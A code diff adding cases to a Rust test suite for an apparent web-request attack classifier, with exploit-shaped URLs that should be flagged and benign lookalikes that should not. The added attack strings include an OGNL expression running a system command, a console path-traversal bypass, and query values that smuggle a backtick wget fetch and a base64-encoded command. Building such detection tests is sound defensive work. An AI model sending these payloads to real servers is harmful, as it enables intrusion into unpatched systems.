@@ -41,6 +41,15 @@ fn attacks_are_seen() {
         ("/a?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", Script),
         ("/a?page=php://filter/convert.base64-encode/resource=index", Inclusion),
         ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", Exploit),
+        (
+            "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/",
+            Exploit,
+        ),
+        ("/console/css/%252e%252e%252fconsole.portal?_nfpb=true", Exploit),
+        ("/mgmt/tm/util/bash", Exploit),
+        ("/card_scan_decoder.php?No=30&door=%60wget%20http://a/b%60", Exploit),
+        ("/SetupWizard.aspx/a", Exploit),
+        ("/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=", Exploit),
     ] {
         assert!(classes(target).contains(&class), "{target}: {:?}", classes(target));
     }
@@ -58,6 +67,9 @@ fn an_honest_web_is_not() {
         "/page;jsessionid=ABCDEF?id=5;lang=en;ls=1",
         "/odata/Products?$filter=Name%20eq%20%27Milk%27%20and%20Price%20gt%205&$select=Name,ID",
         "/a/../b/../c.css",
+        "/console/login/LoginForm.jsp",
+        "/SetupWizard.aspx",
+        "/docs/mgmt/tm/util/index.html",
         "/pixel?u=https%3A%2F%2Fa.example%2F%3Fx%3D%257B%2522k%2522%3A%2522v%2522%257D&t=(none)|(not%20set)|direct",
         "/wiki/Sleep_(disambiguation)",
         "/q?sql=benchmark+results&x=<b>bold</b>",
